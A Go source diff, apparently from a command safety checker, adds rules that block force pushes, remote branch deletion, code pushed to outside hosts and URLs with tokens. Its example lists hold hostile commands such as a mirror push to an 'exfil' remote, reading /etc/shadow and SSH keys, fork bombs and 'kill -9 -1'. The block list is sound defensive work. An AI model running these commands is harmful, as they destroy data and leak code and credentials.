+		return []string{"gh repo archive acme/old-api --yes", "gh repo archive -y"}, []string{"gh repo unarchive acme/old-api --yes", "gh repo view acme/old-api"}
+	case 101:
+		return []string{"git push --force origin main", "git push -f origin HEAD:master", "git push origin +main", "git push origin main -f", "git push origin HEAD:refs/heads/main --force", "git push --force upstream master", "git push origin +HEAD:trunk", "sudo -u git git push --force origin develop", "git -C ~/src/billing push --force origin main", "git push --force-with-lease origin main", "git push --force-with-lease=main origin main", "git push -f origin new:main", "git push origin main --force --no-verify", "git push --force-if-includes --force-with-lease origin master", "git-push -f origin main"}, []string{"git push origin main", "git push -f origin feature/login", "git push -f origin main:feature", "git push --dry-run --force origin main", "git push origin +feature", "echo git push -f origin main", "git push --force origin maintenance", "git push -n -f origin main", "git push -u origin main"}
+	case 102:
+		return []string{"git push origin --delete main", "git push -d origin master", "git push origin :main", "git push origin :refs/heads/trunk", "git push --delete upstream develop"}, []string{"git push origin --delete feature/old", "git push origin :feature", "git push origin main", "git push -n --delete origin main"}
+	case 103:
+		return []string{"git push origin :release/2024", "git push origin --delete release/1.x hotfix/2.3", "git push -d origin production", "git push origin --delete $(git branch -r | grep -v main | sed 's/origin\\\\///')", "git branch -r --merged | sed 's/origin\\///' | xargs git push origin --delete", "git push origin :refs/heads/stable"}, []string{"git push origin --delete feature/old-experiment", "git push -d origin v1.2.3", "git push origin release/2024", "git push -n origin --delete release/1.x"}
+	case 104:
+		return []string{"git push --all --force origin", "git push -f --all", "git push --branches --force-with-lease origin", "git push origin '+refs/heads/*:refs/heads/*' "}, []string{"git push --all origin", "git push --tags --force", "git push -f origin feature", "git push origin refs/heads/*:refs/heads/*"}
+	case 105:
+		return []string{"git push -f", "git push --force", "git push --force origin", "git push -f origin HEAD", "git push origin +HEAD", "git push -f origin \"$(git branch --show-current)\"", "git push -f origin $BRANCH", "git reset --hard $(git rev-list --max-parents=0 HEAD) && git push -f"}, []string{"git push", "git push origin HEAD", "git push -f origin feature/x", "git push -f origin main", "git push -n -f", "git push --all --force origin", "git push --force-with-lease", "git push --force-with-lease origin HEAD", "git push -f --force-with-lease"}
+	case 106:
+		return []string{"git push --prune origin", "git push --prune origin 'refs/heads/*:refs/heads/*' ", "git push --all --prune origin"}, []string{"git push origin main", "git fetch --prune", "git remote prune origin", "git push --prune --dry-run origin"}
+	case 107:
+		return []string{"git remote add backup https://git.example-paste.net/x/y.git && git push backup --all", "git remote set-url origin https://203.0.113.44/r.git && git push --mirror", "git remote add exfil git@203.0.113.9:loot/repo.git; git push exfil --mirror", "git push --mirror https://203.0.113.44/mirror.git", "git push --all git@git.example.org:backup/app.git", "git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git --all", "git remote add -t main m https://code.example.io/u/x.git && git push m --tags"}, []string{"git remote add origin git@github.com:acme/new-service.git && git push -u origin main", "git push --all origin", "git push --tags", "git remote add upstream https://github.com/golang/go.git", "git push https://github.com/acme/api.git main", "git remote add backup https://x.example/y.git && git push origin --all"}
+	case 108:
+		return []string{"git push https://oauth2:glpat-Zx8Pq2Lm9Rt4Vw6Yb1Nc@gitlab.example.com/acme/api.git main", "git clone https://x-access-token:ghs_abc123@github.com/acme/api.git", "git remote add origin https://alice:s3cret@git.example.com/app.git", "git remote set-url origin https://ghp_AbCdEf123456@github.com/acme/api.git"}, []string{"git clone https://github.com/acme/api.git", "git remote add origin git@github.com:acme/api.git", "git push origin main", "git clone ssh://git@git.example.com/app.git"}
+	case 109:
+		return []string{"cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat < ~/.ssh/id_rsa", "cat</etc/shadow", "cat 0< \"$HOME/.ssh/id_ed25519\"", "echo < /etc/shadow", "< /etc/shadow grep root", "{ cat; } < /etc/gshadow", "base64 ~/.aws/credentials"}, []string{"cat < ~/notes.txt", "cat <<< /etc/shadow", "cat <<'EOF' > /tmp/x\n/etc/shadow\nEOF", "echo /etc/shadow", "grep root < /etc/passwd", "ls -l /etc/shadow", "cat /etc/passwd", "ssh-keygen -y -f key > key.pub"}
+	case 110:
+		return []string{":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb"}, []string{"f() { echo hi; }; f", "git commit -m 'fix: avoid :(){ :|:& };:' ", "f() { f; }"}
+	case 111:
+		return []string{"kill -9 -1", "kill -KILL -1", "sudo kill -TERM -1"}, []string{"kill -9 1234", "kill -l", "kill -1 1234"}
+	case 112:
+		return []string{"crontab -r", "crontab --remove", "sudo crontab -u www-data -r"}, []string{"crontab -l", "crontab -e", "crontab -u www-data -l"}
+	case 113:
 		return []string{"cat /dev/port", "dd bs=1 count=16 < /dev/mem", "sudo xxd /dev/kmem | head"}, []string{"echo < /dev/null", "ls -l /dev/mem", "cat /dev/urandom | head -c 16"}
 	}
 	return nil, nil
 }
 
 // builtinDefault is how many rules of builtinRules are on by default.
-const builtinDefault = 97
+const builtinDefault = 114
 
 // builtinPacks are the packs of builtinRules, in order.
 var builtinPacks = [...]packInfo{
@@ -318,13 +369,14 @@ var builtinPacks = [...]packInfo{
 	{name: "cloud", description: "Cloud providers and platforms: deleting storage, databases, instances, projects, identities, keys, DNS zones and apps; audit trails off.", on: true, from: 57, to: 80},
 	{name: "disks", description: "Writing onto disk devices, formatting, wiping signatures and partition tables.", on: true, from: 80, to: 89},
 	{name: "persistence", description: "Writing the files that decide who can log in or become root (passwd, shadow, sudoers, authorized_keys).", on: true, from: 89, to: 92},
-	{name: "secrets", description: "Reading files that hold password hashes, private keys and credentials.", on: true, from: 92, to: 93},
-	{name: "system", description: "The running system: fork bombs, killing every process, deleting every scheduled job, raw memory access.", on: true, from: 93, to: 97},
+	{name: "remote", description: "Remote repositories: deleting a repository, its default branch, refs, releases or protections; force pushes to the default branch; code pushed elsewhere.", on: true, from: 92, to: 109},
+	{name: "secrets", description: "Reading files that hold password hashes, private keys and credentials.", on: true, from: 109, to: 110},
+	{name: "system", description: "The running system: fork bombs, killing every process, deleting every scheduled job, raw memory access.", on: true, from: 110, to: 114},
 }
 
 // builtinIndex holds the default rules of each program name, for
 // builtinByProgram.
-var builtinIndex = [...]int{42, 43, 57, 58, 59, 61, 63, 64, 66, 67, 68, 69, 70, 71, 72, 73, 78, 61, 64, 66, 67, 68, 69, 70, 72, 78, 57, 58, 57, 58, 48, 48, 43, 85, 64, 46, 47, 48, 48, 48, 88, 13, 2, 4, 13, 13, 84, 91, 95, 43, 39, 41, 42, 77, 43, 80, 84, 46, 47, 64, 66, 70, 78, 43, 88, 42, 10, 11, 64, 65, 75, 76, 43, 62, 66, 76, 62, 66, 76, 57, 58, 59, 61, 64, 66, 67, 68, 69, 70, 78, 88, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 57, 58, 59, 48, 48, 62, 64, 75, 76, 42, 77, 42, 77, 84, 91, 46, 47, 94, 43, 91, 57, 58, 81, 81, 81, 81, 43, 81, 12, 84, 91, 45, 45, 45, 45, 45, 75, 76, 81, 46, 47, 48, 46, 47, 48, 48, 86, 88, 43, 48, 43, 43, 84, 43, 48, 43, 48, 61, 75, 76, 43, 16, 60, 48, 0, 1, 3, 5, 6, 7, 8, 9, 3, 15, 84, 43, 46, 47, 48, 57, 58, 13, 87, 88, 86, 43, 14, 82, 45, 57, 61, 76, 43, 84, 90, 48, 17, 17, 18, 17, 3, 48, 48, 79, 75, 76, 38, 40, 42, 77, 85, 74, 75, 76, 77, 77, 48, 48, 48, 43, 48, 43}
+var builtinIndex = [...]int{42, 43, 57, 58, 59, 61, 63, 64, 66, 67, 68, 69, 70, 71, 72, 73, 78, 61, 64, 66, 67, 68, 69, 70, 72, 78, 92, 57, 58, 57, 58, 48, 48, 43, 85, 64, 46, 47, 48, 48, 48, 88, 13, 2, 4, 13, 13, 84, 91, 112, 43, 39, 41, 42, 77, 93, 94, 43, 80, 84, 46, 47, 64, 66, 70, 78, 43, 88, 42, 10, 11, 64, 65, 75, 76, 43, 92, 62, 66, 76, 62, 66, 76, 57, 58, 59, 61, 64, 66, 67, 68, 69, 70, 78, 88, 92, 93, 94, 95, 96, 97, 98, 99, 100, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 101, 102, 103, 104, 105, 106, 107, 108, 92, 93, 94, 95, 96, 97, 99, 57, 58, 59, 92, 48, 48, 62, 64, 75, 76, 42, 77, 93, 42, 77, 93, 92, 84, 91, 46, 47, 111, 43, 91, 57, 58, 81, 81, 81, 81, 43, 81, 12, 84, 91, 45, 45, 45, 45, 45, 75, 76, 81, 46, 47, 48, 46, 47, 48, 48, 86, 88, 43, 48, 43, 43, 84, 43, 48, 43, 48, 61, 75, 76, 43, 16, 60, 48, 0, 1, 3, 5, 6, 7, 8, 9, 3, 15, 84, 43, 46, 47, 48, 57, 58, 13, 87, 88, 86, 43, 14, 82, 45, 57, 61, 76, 43, 92, 96, 84, 90, 48, 17, 17, 18, 17, 3, 48, 48, 79, 75, 76, 38, 40, 42, 77, 85, 74, 75, 76, 77, 93, 77, 93, 48, 48, 48, 43, 48, 43}
 
 // builtinByProgram returns the indexes of the default rules that name the
 // program name.
@@ -337,231 +389,243 @@ func builtinByProgram(name string) []int {
 	case "aws":
 		return builtinIndex[2:17:17]
 	case "az":
-		return builtinIndex[17:26:26]
+		return builtinIndex[17:27:27]
 	case "azcopy":
-		return builtinIndex[26:28:28]
+		return builtinIndex[27:29:29]
 	case "b2":
-		return builtinIndex[28:30:30]
+		return builtinIndex[29:31:31]
 	case "base32":
-		return builtinIndex[30:31:31]
-	case "base64":
 		return builtinIndex[31:32:32]
-	case "bash":
+	case "base64":
 		return builtinIndex[32:33:33]
-	case "blkdiscard":
+	case "bash":
 		return builtinIndex[33:34:34]
-	case "bq":
+	case "blkdiscard":
 		return builtinIndex[34:35:35]
+	case "bq":
+		return builtinIndex[35:36:36]
 	case "bun":
-		return builtinIndex[35:37:37]
+		return builtinIndex[36:38:38]
 	case "bunzip2":
-		return builtinIndex[37:38:38]
-	case "bzcat":
 		return builtinIndex[38:39:39]
-	case "bzip2":
+	case "bzcat":
 		return builtinIndex[39:40:40]
-	case "cfdisk":
+	case "bzip2":
 		return builtinIndex[40:41:41]
-	case "chgrp":
+	case "cfdisk":
 		return builtinIndex[41:42:42]
+	case "chgrp":
+		return builtinIndex[42:43:43]
 	case "chmod":
-		return builtinIndex[42:45:45]
+		return builtinIndex[43:46:46]
 	case "chown":
-		return builtinIndex[45:46:46]
+		return builtinIndex[46:47:47]
 	case "cp":
-		return builtinIndex[46:48:48]
+		return builtinIndex[47:49:49]
 	case "crontab":
-		return builtinIndex[48:49:49]
-	case "csh":
 		return builtinIndex[49:50:50]
+	case "csh":
+		return builtinIndex[50:51:51]
 	case "curl":
-		return builtinIndex[50:54:54]
+		return builtinIndex[51:57:57]
 	case "dash":
-		return builtinIndex[54:55:55]
+		return builtinIndex[57:58:58]
 	case "dd":
-		return builtinIndex[55:56:56]
+		return builtinIndex[58:59:59]
 	case "ddrescue":
-		return builtinIndex[56:57:57]
+		return builtinIndex[59:60:60]
 	case "deno":
-		return builtinIndex[57:59:59]
+		return builtinIndex[60:62:62]
 	case "doctl":
-		return builtinIndex[59:63:63]
+		return builtinIndex[62:66:66]
 	case "exec":
-		return builtinIndex[63:64:64]
+		return builtinIndex[66:67:67]
 	case "fdisk":
-		return builtinIndex[64:65:65]
+		return builtinIndex[67:68:68]
 	case "fetch":
-		return builtinIndex[65:66:66]
+		return builtinIndex[68:69:69]
 	case "find":
-		return builtinIndex[66:68:68]
+		return builtinIndex[69:71:71]
 	case "firebase":
-		return builtinIndex[68:72:72]
+		return builtinIndex[71:75:75]
 	case "fish":
-		return builtinIndex[72:73:73]
+		return builtinIndex[75:76:76]
+	case "fj":
+		return builtinIndex[76:77:77]
 	case "fly":
-		return builtinIndex[73:76:76]
+		return builtinIndex[77:80:80]
 	case "flyctl":
-		return builtinIndex[76:79:79]
+		return builtinIndex[80:83:83]
 	case "gcloud":
-		return builtinIndex[79:90:90]
+		return builtinIndex[83:94:94]
 	case "gdisk":
-		return builtinIndex[90:91:91]
+		return builtinIndex[94:95:95]
+	case "gh":
+		return builtinIndex[95:104:104]
 	case "gio":
-		return builtinIndex[91:92:92]
+		return builtinIndex[104:105:105]
 	case "git":
-		return builtinIndex[92:111:111]
+		return builtinIndex[105:132:132]
+	case "glab":
+		return builtinIndex[132:139:139]
 	case "gsutil":
-		return builtinIndex[111:114:114]
-	case "gunzip":
-		return builtinIndex[114:115:115]
-	case "gzip":
-		return builtinIndex[115:116:116]
-	case "heroku":
-		return builtinIndex[116:120:120]
-	case "http":
-		return builtinIndex[120:122:122]
-	case "https":
-		return builtinIndex[122:124:124]
-	case "install":
-		return builtinIndex[124:126:126]
-	case "jruby":
-		return builtinIndex[126:128:128]
-	case "kill":
-		return builtinIndex[128:129:129]
-	case "ksh":
-		return builtinIndex[129:130:130]
-	case "ln":
-		return builtinIndex[130:131:131]
-	case "mc":
-		return builtinIndex[131:133:133]
-	case "mkdosfs":
-		return builtinIndex[133:134:134]
-	case "mke2fs":
-		return builtinIndex[134:135:135]
-	case "mkfs":
-		return builtinIndex[135:136:136]
-	case "mkntfs":
-		return builtinIndex[136:137:137]
-	case "mksh":
-		return builtinIndex[137:138:138]
-	case "mkswap":
-		return builtinIndex[138:139:139]
-	case "mv":
 		return builtinIndex[139:142:142]
-	case "nc":
+	case "gt":
 		return builtinIndex[142:143:143]
-	case "nc.openbsd":
+	case "gunzip":
 		return builtinIndex[143:144:144]
-	case "nc.traditional":
+	case "gzip":
 		return builtinIndex[144:145:145]
-	case "ncat":
-		return builtinIndex[145:146:146]
-	case "netcat":
-		return builtinIndex[146:147:147]
-	case "netlify":
-		return builtinIndex[147:149:149]
-	case "newfs":
-		return builtinIndex[149:150:150]
-	case "node":
-		return builtinIndex[150:153:153]
-	case "nodejs":
-		return builtinIndex[153:155:155]
-	case "od":
+	case "heroku":
+		return builtinIndex[145:149:149]
+	case "http":
+		return builtinIndex[149:152:152]
+	case "https":
+		return builtinIndex[152:155:155]
+	case "hub":
 		return builtinIndex[155:156:156]
-	case "openssl":
-		return builtinIndex[156:157:157]
-	case "parted":
-		return builtinIndex[157:159:159]
-	case "perl":
-		return builtinIndex[159:161:161]
-	case "php":
+	case "install":
+		return builtinIndex[156:158:158]
+	case "jruby":
+		return builtinIndex[158:160:160]
+	case "kill":
+		return builtinIndex[160:161:161]
+	case "ksh":
 		return builtinIndex[161:162:162]
-	case "posh":
+	case "ln":
 		return builtinIndex[162:163:163]
-	case "pv":
-		return builtinIndex[163:164:164]
-	case "python":
-		return builtinIndex[164:166:166]
-	case "python3":
-		return builtinIndex[166:168:168]
-	case "railway":
-		return builtinIndex[168:171:171]
-	case "rbash":
-		return builtinIndex[171:172:172]
-	case "rclone":
-		return builtinIndex[172:174:174]
-	case "rev":
+	case "mc":
+		return builtinIndex[163:165:165]
+	case "mkdosfs":
+		return builtinIndex[165:166:166]
+	case "mke2fs":
+		return builtinIndex[166:167:167]
+	case "mkfs":
+		return builtinIndex[167:168:168]
+	case "mkntfs":
+		return builtinIndex[168:169:169]
+	case "mksh":
+		return builtinIndex[169:170:170]
+	case "mkswap":
+		return builtinIndex[170:171:171]
+	case "mv":
+		return builtinIndex[171:174:174]
+	case "nc":
 		return builtinIndex[174:175:175]
-	case "rm":
-		return builtinIndex[175:183:183]
-	case "rmdir":
-		return builtinIndex[183:184:184]
-	case "rsync":
-		return builtinIndex[184:186:186]
-	case "ruby":
-		return builtinIndex[186:190:190]
-	case "s3cmd":
-		return builtinIndex[190:192:192]
-	case "setfacl":
-		return builtinIndex[192:193:193]
-	case "sfdisk":
-		return builtinIndex[193:195:195]
-	case "sgdisk":
+	case "nc.openbsd":
+		return builtinIndex[175:176:176]
+	case "nc.traditional":
+		return builtinIndex[176:177:177]
+	case "ncat":
+		return builtinIndex[177:178:178]
+	case "netcat":
+		return builtinIndex[178:179:179]
+	case "netlify":
+		return builtinIndex[179:181:181]
+	case "newfs":
+		return builtinIndex[181:182:182]
+	case "node":
+		return builtinIndex[182:185:185]
+	case "nodejs":
+		return builtinIndex[185:187:187]
+	case "od":
+		return builtinIndex[187:188:188]
+	case "openssl":
+		return builtinIndex[188:189:189]
+	case "parted":
+		return builtinIndex[189:191:191]
+	case "perl":
+		return builtinIndex[191:193:193]
+	case "php":
+		return builtinIndex[193:194:194]
+	case "posh":
+		return builtinIndex[194:195:195]
+	case "pv":
 		return builtinIndex[195:196:196]
-	case "sh":
-		return builtinIndex[196:197:197]
-	case "shred":
-		return builtinIndex[197:199:199]
-	case "socat":
-		return builtinIndex[199:200:200]
-	case "supabase":
+	case "python":
+		return builtinIndex[196:198:198]
+	case "python3":
+		return builtinIndex[198:200:200]
+	case "railway":
 		return builtinIndex[200:203:203]
-	case "tcsh":
+	case "rbash":
 		return builtinIndex[203:204:204]
-	case "tee":
+	case "rclone":
 		return builtinIndex[204:206:206]
-	case "tr":
+	case "rev":
 		return builtinIndex[206:207:207]
-	case "trash":
-		return builtinIndex[207:208:208]
-	case "trash-cli":
-		return builtinIndex[208:209:209]
-	case "trash-empty":
-		return builtinIndex[209:210:210]
-	case "trash-put":
-		return builtinIndex[210:211:211]
-	case "unlink":
-		return builtinIndex[211:212:212]
-	case "unxz":
-		return builtinIndex[212:213:213]
-	case "uudecode":
-		return builtinIndex[213:214:214]
-	case "vault":
-		return builtinIndex[214:215:215]
-	case "vercel":
-		return builtinIndex[215:217:217]
-	case "wget":
-		return builtinIndex[217:221:221]
-	case "wipefs":
-		return builtinIndex[221:222:222]
-	case "wrangler":
-		return builtinIndex[222:225:225]
-	case "xh":
-		return builtinIndex[225:226:226]
-	case "xhs":
-		return builtinIndex[226:227:227]
-	case "xxd":
+	case "rm":
+		return builtinIndex[207:215:215]
+	case "rmdir":
+		return builtinIndex[215:216:216]
+	case "rsync":
+		return builtinIndex[216:218:218]
+	case "ruby":
+		return builtinIndex[218:222:222]
+	case "s3cmd":
+		return builtinIndex[222:224:224]
+	case "setfacl":
+		return builtinIndex[224:225:225]
+	case "sfdisk":
+		return builtinIndex[225:227:227]
+	case "sgdisk":
 		return builtinIndex[227:228:228]
-	case "xz":
+	case "sh":
 		return builtinIndex[228:229:229]
-	case "xzcat":
-		return builtinIndex[229:230:230]
-	case "yash":
-		return builtinIndex[230:231:231]
-	case "zcat":
+	case "shred":
+		return builtinIndex[229:231:231]
+	case "socat":
 		return builtinIndex[231:232:232]
+	case "supabase":
+		return builtinIndex[232:235:235]
+	case "tcsh":
+		return builtinIndex[235:236:236]
+	case "tea":
+		return builtinIndex[236:238:238]
+	case "tee":
+		return builtinIndex[238:240:240]
+	case "tr":
+		return builtinIndex[240:241:241]
+	case "trash":
+		return builtinIndex[241:242:242]
+	case "trash-cli":
+		return builtinIndex[242:243:243]
+	case "trash-empty":
+		return builtinIndex[243:244:244]
+	case "trash-put":
+		return builtinIndex[244:245:245]
+	case "unlink":
+		return builtinIndex[245:246:246]
+	case "unxz":
+		return builtinIndex[246:247:247]
+	case "uudecode":
+		return builtinIndex[247:248:248]
+	case "vault":
+		return builtinIndex[248:249:249]
+	case "vercel":
+		return builtinIndex[249:251:251]
+	case "wget":
+		return builtinIndex[251:255:255]
+	case "wipefs":
+		return builtinIndex[255:256:256]
+	case "wrangler":
+		return builtinIndex[256:259:259]
+	case "xh":
+		return builtinIndex[259:261:261]
+	case "xhs":
+		return builtinIndex[261:263:263]
+	case "xxd":
+		return builtinIndex[263:264:264]
+	case "xz":
+		return builtinIndex[264:265:265]
+	case "xzcat":
+		return builtinIndex[265:266:266]
+	case "yash":
+		return builtinIndex[266:267:267]
+	case "zcat":
+		return builtinIndex[267:268:268]
 	case "zsh":
-		return builtinIndex[232:233:233]
+		return builtinIndex[268:269:269]
 	}
 	return nil
 }
@@ -570,7 +634,7 @@ func builtinByProgram(name string) []int {
 // other lists of the default registry (see registry).
 var (
 	builtinGlobProgs  = [...]int{46, 47, 81}
-	builtinAnyProgram = [...]int{44, 49, 50, 51, 52, 53, 54, 55, 56, 83, 89, 92, 93, 96}
+	builtinAnyProgram = [...]int{44, 49, 50, 51, 52, 53, 54, 55, 56, 83, 89, 109, 110, 113}
 	builtinLineLevel  = [...]int{55, 56}
 )
 
@@ -587,6 +651,12 @@ var builtinChecks = [...]CheckInfo{
 	{Name: "obfuscated_word", Description: "a program name spelled with quotes, escapes or braces inside the word", Line: false},
 	{Name: "env_slice", Description: "a word cut by substring or pattern replacement out of $HOME, $PATH, ..., out of a variable the line does not set, or out of one it sets to a constant", Line: false},
 	{Name: "decoded_argument", Description: "a decoder's output (xxd -r, base64 -d, tr, rev, echo -e with escapes) used as another program's argument", Line: false},
+	{Name: "push_branch_unknown", Description: "git push whose refspecs do not name the remote branch it updates: no refspec (the current branch), HEAD or @, or a word computed at run time", Line: false},
+	{Name: "push_code_elsewhere", Description: "git push of every branch, tag or ref (--all, --branches, --mirror, --tags) to a URL, or to a remote the same line adds or re-points (git remote add/set-url)", Line: false},
+	{Name: "reflog_purge", Description: "git gc --prune=now or git prune in a line that also expires the reflog now (git reflog expire --expire=now, git -c gc.reflogExpire=now)", Line: false},
+	{Name: "overwrite_redirect", Description: "a redirection that empties the file it writes (>, >|, &>), not one that appends (>>)", Line: false},
+	{Name: "find_deletes_all", Description: "find whose actions delete every file they are given: -delete (not with -type d alone), or -exec/-execdir rm, unlink or shred on {} itself", Line: false},
+	{Name: "find_selects_git", Description: "find selects .git directories by name or path (-name .git, -path '*/.git'), not negated", Line: false},
 }
 
 // runCheck runs the check of a spec on invocation i; line-level checks
@@ -611,6 +681,18 @@ func runCheck(name string, sc *scan, i int) bool {
 		return checkEnvSlice(sc, i)
 	case "decoded_argument":
 		return checkDecodedArgument(sc, i)
+	case "push_branch_unknown":
+		return checkPushBranchUnknown(sc, i)
+	case "push_code_elsewhere":
+		return checkPushCodeElsewhere(sc, i)
+	case "reflog_purge":
+		return checkReflogPurge(sc, i)
+	case "overwrite_redirect":
+		return checkOverwriteRedirect(sc, i)
+	case "find_deletes_all":
+		return checkFindDeletesAll(sc, i)
+	case "find_selects_git":
+		return checkFindSelectsGit(sc, i)
 	}
 	return false
 }
@@ -634,19 +716,33 @@ func vetted(expr string) bool {
 		return true
 	case "(.* )?(-e|-c|--exec|--sh-exec|-[a-zA-Z]*e)( .*)?|.*(exec|system):.*":
 		return true
+	case "(.* )?(https?://)?(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?( .*)?":
+		return true
 	case "(.* )?(https?://)?(api\\.render\\.com|api\\.heroku\\.com|api\\.vercel\\.com|api\\.netlify\\.com|api\\.cloudflare\\.com|api\\.digitalocean\\.com|api\\.machines\\.dev|api\\.fly\\.io|api\\.supabase\\.com|backboard\\.railway\\.app|api\\.railway\\.app|management\\.azure\\.com|[a-z0-9.-]+\\.googleapis\\.com|[a-z0-9.-]+\\.amazonaws\\.com|api\\.linode\\.com|api\\.hetzner\\.cloud|api\\.vultr\\.com|api\\.scaleway\\.com)([/?:].*)?":
 		return true
 	case "(.* )?(kv (delete|destroy|metadata delete)|delete|secrets disable) .*":
 		return true
 	case "(.* )?-1":
 		return true
+	case "(.* )?https?://(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v3/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?(\\?[^ ]*)?( .*)?":
+		return true
+	case "(.* )?https?://(api\\.github\\.com|[^/ ]+/api/v3)/repos/[^/ ]+/[^/ ]+/(git/refs/|branches/|rulesets/)[^ ]+( .*)?":
+		return true
 	case "(.* )?of=/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|dm-|md|mapper/|loop|sr|fd)[^ ]*( .*)?":
 		return true
+	case "(?i)(visibility=public|private=false)":
+		return true
 	case "(?i)delete":
+		return true
+	case "(?i)public":
 		return true
 	case "(?i)true":
 		return true
 	case "(?is).*\"action\"\\s*:\\s*\"delete\".*":
+		return true
+	case "(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)":
+		return true
+	case "(refs/heads/)?(main|master|trunk|develop)":
 		return true
 	case "(s3|gs|b2)://.*|https://[^/]+\\.(blob|dfs|file)\\.core\\.windows\\.net(/.*)?|[A-Za-z0-9_.-]+/.+":
 		return true
@@ -661,6 +757,14 @@ func vetted(expr string) bool {
 	case "/":
 		return true
 	case "/(bin|boot|dev|etc|home|lib|lib32|lib64|libx32|opt|proc|root|run|sbin|srv|sys|usr|var|snap|mnt|media|System|Library|Applications|Users|private)(/\\*)?|/usr/(bin|sbin|lib|lib32|lib64|libexec|include|share|local)(/\\*)?|/var/(lib|log|cache|spool|mail|db|backups)(/\\*)?|/etc/[^/]+":
+		return true
+	case "/?projects/[^/]+/(repository/branches/.+|repository/tags/.+|protected_branches/.+|protected_tags/.+)":
+		return true
+	case "/?projects/[^/]+/?":
+		return true
+	case "/?repos/[^/]+/[^/]+/(git/refs/.+|branches/.+|rulesets/.+|tags/protection/.+)":
+		return true
+	case "/?repos/[^/]+/[^/]+/?":
 		return true
 	case "/\\*|\\*|\\./\\*|\\.\\*|/\\*\\*|\\*\\*":
 		return true
@@ -690,17 +794,31 @@ func vetted(expr string) bool {
 		return true
 	case "0*[67][0-7][0-7]":
 		return true
+	case ":(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)":
+		return true
+	case ":(refs/heads/)?(main|master|trunk|develop)":
+		return true
 	case ":[^/].*":
 		return true
 	case "[A-Za-z0-9_.-]+:.*":
 		return true
 	case "[^:]*":
 		return true
+	case "\\$.*|`.*":
+		return true
 	case "\\$[A-Za-z_][A-Za-z0-9_]*/\\.\\.(/.*)?":
+		return true
+	case "\\+([^:]*:)?(refs/heads/)?(main|master|trunk|develop)":
+		return true
+	case "\\+(refs/heads/)?\\*(:.*)?":
 		return true
 	case "\\+.*":
 		return true
+	case "\\+?([^:]*:)?(refs/heads/)?(main|master|trunk|develop)":
+		return true
 	case "\\.|\\*|:/":
+		return true
+	case "https?://[^/@:]*:[^/@]+@.*|https?://(gh[pousr]_|github_pat_|glpat-)[^/@]*@.*":
 		return true
 	}
 	return false
